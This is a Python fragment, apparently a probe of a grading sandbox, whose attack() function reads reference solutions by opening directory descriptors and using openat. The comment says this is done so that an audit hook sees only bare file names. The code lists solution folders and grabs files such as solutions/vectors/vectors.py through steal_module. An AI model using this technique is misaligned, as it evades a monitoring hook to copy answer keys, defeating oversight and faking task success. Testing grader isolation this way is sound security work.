# Reading the answer through directory descriptors: list the course folder and open the reference
# relative to a descriptor, so the audit hook only ever sees a bare name such as 'vectors.py'.
# Also the course that ships next to the grader when it runs from a source checkout.


def attack():
    for folder, name in TARGETS["solution_files"]:
        ok, listing_fd = attempt(f"open {folder} as a directory", lambda: open_dir(folder))
        if ok:
            attempt(f"list {folder} through its descriptor", lambda: os.listdir(listing_fd))
            os.close(listing_fd)
        base = os.open("/", os.O_PATH)
        relative = os.path.join(folder, name).lstrip("/")
        steal_module(f"openat(O_PATH '/', {relative!r})", lambda: read_at(base, relative))
        os.close(base)
    course = TARGETS["course_dir"]
    ok, course_fd = attempt(f"open the course folder {course}", lambda: open_dir(course))
    if ok:
        attempt("list the course folder through its descriptor", lambda: os.listdir(course_fd))
        ok, solutions_fd = attempt("openat 'solutions' under the course descriptor", lambda: open_dir("solutions", course_fd))
        if ok:
            attempt("list solutions/ through its descriptor", lambda: os.listdir(solutions_fd))
            steal_module("openat 'vectors/vectors.py' under solutions/", lambda: read_at(solutions_fd, "vectors/vectors.py"))
